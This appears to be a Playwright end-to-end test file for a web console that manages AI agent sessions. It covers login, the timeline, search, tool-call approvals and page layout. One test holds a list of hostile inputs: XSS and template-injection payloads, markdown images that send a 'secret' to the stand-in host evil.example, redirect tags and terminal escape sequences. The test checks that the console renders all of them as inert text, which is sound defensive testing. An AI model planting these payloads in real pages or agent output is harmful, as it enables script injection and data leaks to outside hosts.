// The console in a real browser, against a whole server: the first run, the login, the timeline against the log, an
// approval, and hostile text through every door. One test after the other, in one browser.
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { chromium } from 'playwright-core';

const URL_OF = process.env.DROVER_TEST_URL.replace(/\/$/, '');
const KEY = process.env.DROVER_TEST_KEY;
const PATIENCE = 60_000;

let browser;
let context;
let page;
const trouble = [];

async function api(path, body) {
  const response = await fetch(URL_OF + path, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { 'x-api-key': KEY, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  assert.ok(response.ok, `${path}: ${response.status} ${text}`);
  return JSON.parse(text);
}

async function events(session) {
  return (await api(`/v1/sessions/${session}/events?limit=1000`)).data;
}

/** Waits for a condition about the server. */
async function until(what, condition) {
  const end = Date.now() + PATIENCE;
  while (!(await condition())) {
    assert.ok(Date.now() < end, `waited in vain for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Notes all that a page must never do. */
function watch(one) {
  one.setDefaultTimeout(PATIENCE);
  one.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(URL_OF + '/') && !url.startsWith('blob:' + URL_OF)) trouble.push('a request to ' + url);
  });
  one.on('dialog', (dialog) => {
    trouble.push('a dialog: ' + dialog.message());
    void dialog.dismiss();
  });
  one.on('pageerror', (error) => trouble.push('an error in the page: ' + error.message));
  one.on('console', (line) => {
    // The login is asked for before there is one; answers of 401 are logged by the browser.
    if (line.type() === 'error' && !/401 \(/.test(line.text())) trouble.push('the page logged: ' + line.text());
  });
}

function session() {
  return new URL(page.url()).pathname.split('/').pop();
}

async function state(text) {
  await page.locator('.session-head .badge', { hasText: text }).waitFor();
}

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-dev-shm-usage', '--disable-gpu'],
  });
  context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`policy violated: ${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
    });
  });
  page = await context.newPage();
  watch(page);
});

after(async () => {
  await browser?.close();
});

test('a wrong key is refused, and the right one opens the console', async () => {
  await page.goto(URL_OF + '/console');
  const field = page.getByLabel('Or paste an API key');
  await field.fill('sk-wrong');
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('alert').waitFor();
  await field.fill(KEY);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('heading', { name: 'Welcome to Drover' }).waitFor();
  const kept = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }) + document.cookie);
  assert.ok(!kept.includes(KEY), 'the key is kept in the browser');
});

test('one click on an empty server leads to a first answer', async () => {
  await page.getByRole('button', { name: 'Start a session' }).click();
  await page.locator('.row-message').first().waitFor();
  await state('idle');
  await page.locator('.row-call .tool', { hasText: 'bash' }).first().waitFor();
});

const ROWS = new Set(['user.message', 'agent.message', 'agent.tool_use', 'span.model_request_start', 'session.error']);

/** The keys of all rows, from the begin of the list to its end. */
async function rows() {
  const found = [];
  const list = page.locator('.timeline');
  await list.evaluate((view) => (view.scrollTop = 0));
  for (;;) {
    const keys = await page.evaluate(
      () =>
        new Promise((resolve) =>
          requestAnimationFrame(() =>
            requestAnimationFrame(() => resolve([...document.querySelectorAll('.row')].map((row) => row.dataset.key))),
          ),
        ),
    );
    for (const key of keys) if (!found.includes(key)) found.push(key);
    const isAtEnd = await list.evaluate((view) => {
      const before = view.scrollTop;
      view.scrollTop += view.clientHeight / 2;
      return view.scrollTop === before;
    });
    if (isAtEnd) return found;
  }
}

test('the timeline is the log, live and after a reload', async () => {
  const id = session();
  for (let i = 0; i < 5; i++) {
    await page.locator('#message').fill(`Once more.\n\n$ echo line ${i}; printf '\\033[31mred\\033[0m'\n\n$ ls /none-${i}`);
    await page.locator('#message').press('Enter');
    await until('turn ' + i, async () => (await events(id)).filter((one) => one.type === 'session.status_idle').length === i + 2);
  }
  await state('idle');
  const expected = (await events(id)).filter((one) => ROWS.has(one.type)).map((one) => one.id);
  const inLog = (keys) => keys.filter((key) => expected.includes(key));
  await page.locator(`.row[data-key="${expected.at(-1)}"]`).waitFor();
  assert.deepEqual(inLog(await rows()), expected);
  await page.reload();
  await state('idle');
  await page.locator(`.row[data-key="${expected.at(-1)}"]`).waitFor();
  assert.deepEqual(inLog(await rows()), expected);
});

test('a search finds rows, and a link to an event shows it', async () => {
  const id = session();
  const wanted = (await events(id)).find((one) => one.type === 'agent.tool_use' && one.input.command.includes('none-3'));
  await page.locator('#search').fill('tool:bash failed:true none-3');
  await page.getByText('1 found').waitFor();
  await page.locator('#search').press('Enter');
  await page.locator(`.row.selected.hit[data-key="${wanted.id}"]`).waitFor();
  const other = await context.newPage();
  watch(other);
  await other.goto(`${URL_OF}/console/sessions/${id}?event=${wanted.id}&tab=event`);
  await other.locator(`.row.selected[data-key="${wanted.id}"]`).waitFor();
  await other.locator('.event-json', { hasText: wanted.id }).first().waitFor();
  await other.close();
  await page.goBack();
});

test('a call that asks runs when it is allowed, once, and not by a click that came too early', async () => {
  const environment = (await api('/v1/environments')).data[0];
  const agent = await api('/v1/agents', {
    name: 'Asker',
    model: 'rehearsal',
    tools: [{ type: 'agent_toolset_20260401', default_config: { enabled: true, permission_policy: { type: 'always_ask' } } }],
  });
  const made = await api('/v1/sessions', { agent: agent.id, environment_id: environment.id, title: 'Asks' });
  await page.goto(`${URL_OF}/console/sessions/${made.id}`);
  await page.evaluate(() => {
    new MutationObserver(() => {
      const button = document.querySelector('.row .approval .primary');
      if (button && !window.clickedEarly) {
        window.clickedEarly = true;
        button.click();
      }
    }).observe(document.body, { childList: true, subtree: true });
  });
  await page.locator('#message').fill('$ echo allowed > file.txt; cat file.txt');
  await page.locator('#message').press('Enter');
  await state('waits for you');
  assert.equal(await page.evaluate(() => window.clickedEarly), true);
  const answers = async () => (await events(made.id)).filter((one) => one.type === 'user.tool_confirmation');
  assert.deepEqual(await answers(), []);

  // The inbox has the same question, in another tab.
  const inbox = await context.newPage();
  watch(inbox);
  await inbox.goto(URL_OF + '/console');
  await inbox.locator('.details .approval', { hasText: 'cat file.txt' }).waitFor();
  assert.match(await inbox.title(), /^\(1\) /);

  await until('the call to be allowed', async () => {
    const button = page.locator('.row .approval .primary');
    if (await button.isEnabled().catch(() => false)) await button.click({ timeout: 2000 }).catch(() => {});
    return (await answers()).length > 0;
  });
  await state('idle');
  await page.locator('.row-call .output', { hasText: 'allowed' }).waitFor();
  assert.deepEqual((await answers()).map((one) => one.result), ['allow']);
  await inbox.getByText('Nothing waits for you').waitFor();
  await inbox.close();

  await page.locator('#message').fill('$ echo denied');
  await page.locator('#message').press('Enter');
  await state('waits for you');
  await until('the call to be denied', async () => {
    if ((await answers()).length > 1) return true;
    const group = page.locator('.row .approval').first();
    await group.press('d').catch(() => {});
    return false;
  });
  await state('idle');
  assert.deepEqual((await answers()).map((one) => one.result), ['allow', 'deny']);
});

const HOSTILE = [
  '<img src=x onerror="window.__x=1">',
  '<script>window.__x=1</script>',
  '<svg/onload=window.__x=1>',
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<a href=javascript:window.__x=1>click</a>',
  '[a](javascript:window.__x=1)',
  '[a](JaVa\tscript:window.__x=1)',
  '[a](data:text/html,<script>1</script>)',
  '[a](//evil.example)',
  '![x](https://evil.example/p?q=secret)',
  '[![x](https://evil.example/i)](https://evil.example/u)',
  '![x][1]\n\n[1]: https://evil.example/reference',
  '<https://evil.example?q=1>',
  '${window.__x=1}',
  "{{constructor.constructor('window.__x=1')()}}",
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input type=submit></form>',
  '<math><mtext></mtext><mglyph><style></style><img src=x onerror=window.__x=1></mglyph></math>',
  '</pre><script>window.__x=1</script>',
  '\u202Etxt.exe',
  '\u001b]8;;javascript:window.__x=1\u001b\\osc\u001b]8;;\u001b\\',
  '\u001b]52;c;c2VjcmV0\u0007\u001b[2J\u001b[6n',
];

test('hostile text is text, through every door', async () => {
  const environment = (await api('/v1/environments')).data[0];
  const all = HOSTILE.join('\n\n');
  const agent = await api('/v1/agents', {
    name: HOSTILE[0],
    description: HOSTILE[1],
    system: all,
    model: 'scripted',
    metadata: { constructor: HOSTILE[2], ['<img src=x onerror=window.__x=1>']: HOSTILE[0] },
    tools: [
      { type: 'agent_toolset_20260401' },
      { type: 'custom', name: 'toString', description: HOSTILE[0], input_schema: { type: 'object', properties: {} } },
    ],
  });
  const made = await api('/v1/sessions', {
    agent: agent.id,
    environment_id: environment.id,
    title: HOSTILE[0] + HOSTILE[21],
    metadata: { ['<svg/onload=window.__x=1>']: HOSTILE[3], toString: HOSTILE[4] },
  });
  const script = {
    script: made.id,
    replies: [
      {
        text: HOSTILE.map((one) => one + '\n\n'),
        tools: [
          { name: 'bash', input: { command: `cat > '<img src=x onerror=window.__x=1>.svg' <<'END'\n${all}\nEND\ncat *.svg` } },
          { name: 'toString', input: { ['<img src=x onerror=window.__x=1>']: all, __proto__x: { constructor: all } } },
        ],
      },
      { text: [all] },
    ],
  };
  await page.goto(`${URL_OF}/console/sessions/${made.id}`);
  await state('idle');
  await page.locator('#message').fill(JSON.stringify(script));
  await page.locator('#message').press('Enter');
  await state('waits for a result');
  const use = (await events(made.id)).find((one) => one.type === 'agent.custom_tool_use');
  await api(`/v1/sessions/${made.id}/events`, {
    events: [{ type: 'user.custom_tool_result', custom_tool_use_id: use.id, content: [{ type: 'text', text: all }] }],
  });
  await state('idle');
  const bash = (await events(made.id)).find((one) => one.type === 'agent.tool_use');
  for (const place of [
    `/console/sessions/${made.id}?tab=event&event=${bash.id}`,
    `/console/sessions/${made.id}?show=events&tab=workspace`,
    `/console/sessions/${made.id}?tab=tools&q=${encodeURIComponent('<img (a+)+$')}`,
    `/console/sessions/${made.id}?tab=context`,
    '/console/sessions',
    '/console/agents',
    `/console/agents/${agent.id}`,
    `/console/agents/${agent.id}?tab=json`,
    '/console/health',
    '/console/settings',
    '/console/<img src=x onerror=alert(1)>',
  ]) {
    await page.goto(URL_OF + place);
    await page.locator('.shell').waitFor();
    await page.waitForLoadState('load');
    if (place.includes('sessions/')) {
      await state('idle');
      await page.locator('.row-message', { hasText: '<script>window.__x=1</script>' }).first().waitFor();
    } else await page.locator('h1').first().waitFor();
    const found = await page.evaluate(() => ({
      x: window.__x,
      images: document.images.length,
      frames: document.querySelectorAll('iframe,frame,object,embed,form[action],base,meta[http-equiv]').length,
      scripts: [...document.scripts].filter((one) => !one.src).length,
      links: [...document.links].map((one) => one.protocol),
    }));
    assert.equal(found.x, undefined, place);
    assert.deepEqual([found.images, found.frames, found.scripts], [0, 0, 0], place);
    assert.deepEqual(found.links.filter((one) => one !== 'http:' && one !== 'https:'), [], place);
  }
  assert.deepEqual(trouble, []);
});

test('the shape of the pages: narrow, dark, and with the keyboard alone', async () => {
  const phone = await browser.newContext({ viewport: { width: 390, height: 800 }, colorScheme: 'dark', storageState: await context.storageState() });
  const small = await phone.newPage();
  watch(small);
  for (const place of ['/console/sessions', '/console/inbox', '/console/agents', '/console/health']) {
    await small.goto(URL_OF + place);
    await small.locator('h1').first().waitFor();
    const wide = await small.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(wide <= 0, `${place} is ${wide} px too wide`);
  }
  await phone.close();

  await page.goto(URL_OF + '/console/sessions');
  await page.locator('h1').first().waitFor();
  await page.keyboard.press('?');
  await page.locator('dialog .keys').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('g');
  await page.keyboard.press('a');
  await page.getByRole('heading', { name: 'Agents' }).waitFor();
  assert.deepEqual(trouble, []);
});

test('after logging out the pages are closed', async () => {
  await page.goto(URL_OF + '/console/settings');
  await page.getByRole('button', { name: 'Log out' }).click();
  await page.getByLabel('Or paste an API key').waitFor();
  const status = await page.evaluate(async () => (await fetch('/v1/sessions', { headers: { 'x-drover-console': '1' } })).status);
  assert.equal(status, 401);
});
